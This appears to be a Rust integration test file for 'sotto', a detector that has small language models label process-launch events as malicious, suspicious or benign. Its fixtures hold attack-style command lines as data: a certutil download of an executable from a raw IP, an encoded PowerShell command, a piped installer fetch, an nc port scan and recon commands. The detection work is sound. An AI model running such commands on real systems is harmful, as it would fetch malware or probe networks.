//! The analysis designs against the real SmolLM2 (chat template) and Gemma 3 270M (base model,
//! completion style). These check shapes and mechanics; how often the verdicts are right is
//! what `sotto eval` measures.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use sotto_analyze::{Admission, AnalyzeError, Analyzer, Detail, Embeddings, Mode, Options, Rationale, Style};
use sotto_engine::{Engine, EngineConfig, NoPacing, Phase, Priority, Prompt, Request, StepHook};
use sotto_events::{Event, Label};
use sotto_models::{catalog, store};

fn engine(id: &str) -> Arc<Engine> {
    engine_hooked(id, Box::new(NoPacing))
}

fn engine_hooked(id: &str, hook: Box<dyn StepHook>) -> Arc<Engine> {
    let path = store::models_dir().join(catalog::find(id).unwrap().file_name);
    assert!(path.exists(), "{} is missing: run `sotto models fetch` first", path.display());
    Arc::new(Engine::start(EngineConfig::new(path), hook).expect("engine starts"))
}

/// Counts the requests the engine starts to evaluate.
struct CountStarts(Arc<AtomicUsize>);

impl StepHook for CountStarts {
    fn on_request_start(&mut self, _: Priority) {
        self.0.fetch_add(1, Ordering::SeqCst);
    }

    fn after_step(&mut self, _: Phase, _: usize) {}
}

/// Waits until `holds` is true, looking again every 10 ms, and fails naming `what` after `limit`.
async fn wait_until(what: &str, limit: Duration, mut holds: impl FnMut() -> bool) {
    let deadline = Instant::now() + limit;
    while !holds() {
        assert!(Instant::now() < deadline, "timed out after {limit:?} waiting until {what}");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

fn event(json: serde_json::Value) -> Event {
    sotto_events::parse_json(&json).unwrap()
}

fn download() -> Event {
    event(serde_json::json!({"os": "windows", "process_name": "certutil.exe", "parent_name": "cmd.exe",
        "command_line": "certutil.exe -urlcache -split -f http://203.0.113.77/x.exe C:\\Users\\Public\\x.exe"}))
}

fn service_host() -> Event {
    event(serde_json::json!({"os": "windows", "process_name": "C:\\Windows\\System32\\svchost.exe",
        "parent_name": "services.exe", "command_line": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Winmgmt"}))
}

/// A plain directory listing, which SmolLM2's label scores call benign by a wide margin.
fn home_listing() -> Event {
    event(serde_json::json!({"os": "linux", "parent_name": "bash", "command_line": "ls -la /home/alice"}))
}

fn analyzer(engine: &Arc<Engine>, mode: Mode) -> Analyzer {
    Analyzer::new(engine.clone(), Options { mode, ..Options::default() })
}

#[tokio::test]
async fn fast_path_scores_the_labels_and_reuses_the_examples_prefix() {
    let engine = engine("smollm2-135m");
    let a = Analyzer::new(engine.clone(), Options { mode: Mode::Fast, retrieve: 0, ..Options::default() });
    assert_eq!(a.style(), Style::Chat);
    let first = a.analyze(&download(), Detail::Verdict, Admission::default()).await.unwrap();
    let scores = first.verdict.scores.expect("the fast path reports label probabilities");
    let sum = scores.malicious + scores.suspicious + scores.benign;
    assert!((sum - 1.0).abs() < 1e-9, "{scores:?}");
    let best = scores.malicious.max(scores.suspicious).max(scores.benign);
    assert!((first.verdict.confidence - best).abs() < 1e-12, "confidence is the chosen label's probability");
    assert!(first.verdict.rationale.is_none(), "the verdict comes first; no rationale unless asked: {first:?}");
    let second = a.analyze(&home_listing(), Detail::Full, Admission::default()).await.unwrap();
    // Instructions and eleven examples are shared: only the event's own tokens are evaluated.
    assert!(second.cached_tokens > 500, "{second:?}");
    assert!(second.prompt_tokens - second.cached_tokens < 200, "{second:?}");
    assert!(second.verdict.rationale.is_some(), "detail=full always explains even a benign verdict: {second:?}");
    assert_eq!(second.verdict.verdict, Label::Benign, "{second:?}");
    assert!(second.verdict.techniques.is_empty(), "a benign verdict names no technique: {second:?}");
}

#[tokio::test]
async fn constrained_generation_always_yields_a_valid_verdict_on_both_model_styles() {
    for id in ["smollm2-135m", "gemma3-270m"] {
        let engine = engine(id);
        for mode in [Mode::Constrained, Mode::ConstrainedZeroShot] {
            let a = analyzer(&engine, mode);
            for e in [download(), service_host()] {
                let analysis = a.analyze(&e, Detail::Full, Admission::default()).await.unwrap_or_else(|err| {
                    panic!("{id} {mode}: {err}");
                });
                let v = &analysis.verdict;
                assert!((0.0..=1.0).contains(&v.confidence), "{id} {mode}: {v:?}");
                assert!(v.techniques.iter().all(|t| sotto_events::techniques::is_valid(t)), "{v:?}");
                assert!(v.rationale.as_deref().is_some_and(|r| !r.is_empty()), "{id} {mode}: {v:?}");
            }
        }
    }
}

#[tokio::test]
async fn retrieved_examples_go_after_the_cached_prefix_and_cost_their_own_tokens() {
    let engine = engine("gemma3-270m");
    let with = |retrieve| Analyzer::new(engine.clone(), Options { mode: Mode::Fast, retrieve, ..Options::default() });
    let (none, three) = (with(0), with(3));
    // Warm the shared prefix first, so both measured runs can reuse it.
    none.analyze(&service_host(), Detail::Verdict, Admission::default()).await.unwrap();
    let plain = none.analyze(&download(), Detail::Verdict, Admission::default()).await.unwrap();
    let retrieved = three.analyze(&download(), Detail::Verdict, Admission::default()).await.unwrap();
    assert!(plain.cached_tokens > 500 && retrieved.cached_tokens > 500, "{plain:?}\n{retrieved:?}");
    let own = |a: &sotto_analyze::Analysis| a.prompt_tokens - a.cached_tokens;
    // Three examples of roughly 60-150 tokens each on top of the event's own tokens.
    assert!(own(&retrieved) > own(&plain) + 120, "{plain:?}\n{retrieved:?}");
    assert!(retrieved.verdict.scores.is_some());
}

#[tokio::test]
async fn retrieval_labels_from_the_bank_and_the_model_explains_only_what_is_flagged() {
    let engine = engine("smollm2-135m");
    let options = Options { mode: Mode::Retrieval, rationale: Rationale::Flagged, ..Options::default() };
    let a = Analyzer::new(engine.clone(), options);
    let quiet = a.analyze(&service_host(), Detail::Verdict, Admission::default()).await.unwrap();
    assert_eq!(quiet.verdict.verdict, Label::Benign, "the bank has many service hosts: {quiet:?}");
    assert_eq!((quiet.prompt_tokens, quiet.generated_tokens), (0, 0), "a benign vote costs no inference: {quiet:?}");
    let flagged = a.analyze(&download(), Detail::Verdict, Admission::default()).await.unwrap();
    assert_ne!(flagged.verdict.verdict, Label::Benign, "{flagged:?}");
    assert!(flagged.generated_tokens > 0 && flagged.verdict.rationale.is_some(), "{flagged:?}");
    assert!(!flagged.verdict.techniques.is_empty(), "{flagged:?}");
    assert!(flagged.verdict.techniques.iter().all(|t| sotto_events::techniques::is_valid(t)));
    let scores = flagged.verdict.scores.unwrap();
    assert!((scores.malicious + scores.suspicious + scores.benign - 1.0).abs() < 1e-9);
}

#[tokio::test]
async fn the_head_answers_without_inference_and_the_model_explains_on_request() {
    let engine = engine("gemma3-270m");
    let a = analyzer(&engine, Mode::Head);
    let flagged = a.analyze(&download(), Detail::Verdict, Admission::default()).await.unwrap();
    assert_ne!(flagged.verdict.verdict, Label::Benign, "{flagged:?}");
    assert!(!flagged.embedded, "the lexical head is sure of this one: {flagged:?}");
    assert_eq!(
        (flagged.prompt_tokens, flagged.generated_tokens),
        (0, 0),
        "a sure verdict costs no inference: {flagged:?}"
    );
    assert!(flagged.verdict.rationale.is_none() && !flagged.evidence.is_empty(), "{flagged:?}");
    assert!(!flagged.verdict.techniques.is_empty(), "{flagged:?}");
    let explained = a.analyze(&download(), Detail::Full, Admission::default()).await.unwrap();
    assert_eq!(explained.verdict.verdict, flagged.verdict.verdict, "the rationale does not change the verdict");
    assert!(explained.generated_tokens > 0 && explained.verdict.rationale.is_some(), "{explained:?}");
    let quiet = a.analyze(&service_host(), Detail::Verdict, Admission::default()).await.unwrap();
    assert_eq!(quiet.verdict.verdict, Label::Benign, "{quiet:?}");
    let policy = Analyzer::new(
        engine.clone(),
        Options { mode: Mode::Head, rationale: Rationale::Flagged, ..Options::default() },
    );
    let quiet = policy.analyze(&service_host(), Detail::Verdict, Admission::default()).await.unwrap();
    assert!(quiet.verdict.rationale.is_none() && quiet.generated_tokens == 0, "benign: nothing to explain");
    let loud = policy.analyze(&download(), Detail::Verdict, Admission::default()).await.unwrap();
    assert!(loud.verdict.rationale.is_some(), "flagged: explained under rationale=flagged");
}

#[tokio::test]
async fn after_prewarming_the_first_rationale_evaluates_only_its_event() {
    for id in ["smollm2-135m", "gemma3-270m"] {
        let engine = engine(id);
        let a = analyzer(&engine, Mode::Head);
        a.prewarm().await.unwrap();
        let explained = a.analyze(&download(), Detail::Full, Admission::default()).await.unwrap();
        let fresh = explained.prompt_tokens - explained.cached_tokens;
        assert!(explained.cached_tokens > 200, "{id}: the instructions and examples are cached: {explained:?}");
        assert!(fresh <= 150, "{id}: only the event, its verdict and evidence are evaluated: {explained:?}");
        assert!(explained.verdict.rationale.is_some(), "{id}: {explained:?}");
    }
}

/// Launches between plainly fine and plainly bad: admin and recon commands, scripts run by the
/// task scheduler, installers piped from the web.
fn mixed_events() -> Vec<Event> {
    let launches = [
        ("windows", "C:\\Windows\\System32\\whoami.exe", "cmd.exe", "whoami /groups"),
        ("windows", "C:\\Windows\\System32\\net.exe", "cmd.exe", "net localgroup administrators"),
        ("windows", "C:\\Windows\\System32\\schtasks.exe", "powershell.exe", "schtasks /query /fo LIST /v"),
        (
            "windows",
            "C:\\Windows\\System32\\reg.exe",
            "cmd.exe",
            "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        ),
        (
            "windows",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "svchost.exe",
            "powershell.exe -ExecutionPolicy Bypass -File C:\\IT\\inventory.ps1",
        ),
        ("linux", "/usr/bin/curl", "bash", "curl -fsSL https://get.example.org/install.sh"),
        ("linux", "/usr/bin/nc", "bash", "nc -zv 10.0.4.12 1-1024"),
    ];
    let mut events: Vec<Event> = launches
        .iter()
        .map(|(os, image, parent, cmd)| {
            event(serde_json::json!({"os": os, "process_name": image, "parent_name": parent, "command_line": cmd}))
        })
        .collect();
    events.extend([download(), service_host()]);
    events
}

#[tokio::test]
async fn the_cascade_embeds_exactly_the_events_the_lexical_head_is_unsure_of() {
    let engine = engine("smollm2-135m");
    let cascade = analyzer(&engine, Mode::Head);
    let head = cascade.embedding_head().expect("sotto ships a head for SmolLM2's embeddings");
    let cut = f64::from(head.embedding.as_ref().unwrap().embed_below);
    let lexical = sotto_analyze::head::Head::shipped();
    let (mut sure, mut unsure) = (0, 0);
    for e in mixed_events() {
        let confidence = lexical.judge(&e).verdict.confidence;
        let a = cascade.analyze(&e, Detail::Verdict, Admission::default()).await.unwrap();
        assert_eq!(a.embedded, confidence < cut, "lexical confidence {confidence:.3}, cut {cut:.3}: {a:?}");
        assert_eq!(a.prompt_tokens > 0, a.embedded, "only an embedding costs prompt tokens: {a:?}");
        assert_eq!(a.generated_tokens, 0, "a verdict generates nothing: {a:?}");
        if a.embedded {
            unsure += 1;
        } else {
            sure += 1;
        }
    }
    assert!(sure > 0 && unsure > 0, "the events must include both kinds: {sure} sure, {unsure} unsure");

    // While the engine is busy with other work, an unsure event does not wait for it: the
    // lexical head answers, and says the model's reading was skipped.
    let doubtful = mixed_events().into_iter().find(|e| lexical.judge(e).verdict.confidence < cut).unwrap();
    let long = Request::new(Prompt::Text("Write a long story about a lighthouse keeper.".into()), 4000);
    let running = engine.submit(long).unwrap();
    wait_until("the long generation runs", Duration::from_secs(60), || engine.status().busy).await;
    let a = cascade.analyze(&doubtful, Detail::Verdict, Admission::default()).await.unwrap();
    assert!(engine.status().busy, "the generation must still be running for this check to mean anything");
    assert!(!a.embedded && a.embedding_skipped && a.prompt_tokens == 0, "{a:?}");
    assert_eq!(a.verdict.verdict, lexical.judge(&doubtful).verdict.verdict);
    drop(running);
    let always = Analyzer::new(engine.clone(), Options { embeddings: Embeddings::Always, ..Options::default() });
    let never = Analyzer::new(engine.clone(), Options { embeddings: Embeddings::Off, ..Options::default() });
    let a = always.analyze(&service_host(), Detail::Verdict, Admission::default()).await.unwrap();
    assert!(a.embedded && a.prompt_tokens > 0, "{a:?}");
    for e in mixed_events() {
        let a = never.analyze(&e, Detail::Verdict, Admission::default()).await.unwrap();
        assert!(!a.embedded && a.prompt_tokens == 0, "{a:?}");
        assert_eq!(a.verdict.verdict, lexical.judge(&e).verdict.verdict);
    }
}

#[tokio::test]
async fn a_base_model_gets_completion_style_prompts_and_the_fast_path_works() {
    let engine = engine("gemma3-270m");
    let a = analyzer(&engine, Mode::Fast);
    assert_eq!(a.style(), Style::Completion);
    let analysis = a.analyze(&download(), Detail::Full, Admission::default()).await.unwrap();
    assert!(analysis.verdict.scores.is_some());
    assert!(analysis.verdict.rationale.is_some(), "{analysis:?}");
}

/// The naive baseline's verdict is the first label its free answer names, not negated
/// (`verdict::lenient_label`); an answer that names none is `AnalyzeError::Unparsed`, which
/// `verdict::tests::lenient_parsing_finds_the_first_unnegated_label` covers: SmolLM2 names a
/// label for every event tried, so no model run reaches it.
#[tokio::test]
async fn the_naive_baseline_reads_the_first_label_its_free_answer_names() {
    let engine = engine("smollm2-135m");
    let a = analyzer(&engine, Mode::Naive);
    let analysis = a.analyze(&download(), Detail::Full, Admission::default()).await.expect("SmolLM2 names a label");
    let v = &analysis.verdict;
    assert!(v.scores.is_none() && v.confidence == 0.5 && analysis.generated_tokens > 0, "{analysis:?}");
    let first_line = v.rationale.as_deref().expect("the answer's first line is the rationale");
    assert_eq!(sotto_analyze::verdict::lenient_label(first_line), Some(v.verdict), "{analysis:?}");
    assert_eq!(v.verdict, Label::Malicious, "{analysis:?}");
}

#[tokio::test]
async fn long_fields_are_truncated_and_marked() {
    let engine = engine("smollm2-135m");
    let long = format!("powershell.exe -enc {}", "QQBBAEEAQQ".repeat(150));
    let e = event(serde_json::json!({"os": "windows", "command_line": long}));
    let run = |max_field_chars| {
        // One request per analysis (no examples, no second step): its prompt is the event's size.
        let options = Options { max_field_chars, mode: Mode::ConstrainedZeroShot, ..Options::default() };
        let a = Analyzer::new(engine.clone(), options);
        let e = e.clone();
        async move { a.analyze(&e, Detail::Verdict, Admission::default()).await.unwrap() }
    };
    let cut = run(200).await;
    let whole = run(100_000).await;
    assert!(cut.truncated && !whole.truncated);
    // 1500 characters of base64 against 200.
    assert!(whole.prompt_tokens > cut.prompt_tokens + 300, "{} vs {}", whole.prompt_tokens, cut.prompt_tokens);
}

#[tokio::test]
async fn an_expired_deadline_is_refused_without_evaluation() {
    let started = Arc::new(AtomicUsize::new(0));
    let engine = engine_hooked("smollm2-135m", Box::new(CountStarts(started.clone())));
    let a = analyzer(&engine, Mode::Fast);
    let past = Admission { deadline: Some(Instant::now()), ..Admission::default() };
    match a.analyze(&download(), Detail::Verdict, past).await {
        Err(AnalyzeError::Deadline) => {}
        other => panic!("expected Deadline, got {other:?}"),
    }
    // A probe queued after it: had the refused request reached the engine's queue and stayed,
    // it would have been evaluated first.
    let probe = engine.submit(Request::new(Prompt::Text("Hello".into()), 1)).unwrap();
    probe.collect().await.unwrap_or_else(|e| panic!("the probe failed: {e}"));
    assert_eq!(started.load(Ordering::SeqCst), 1, "the engine evaluated something besides the probe");
}
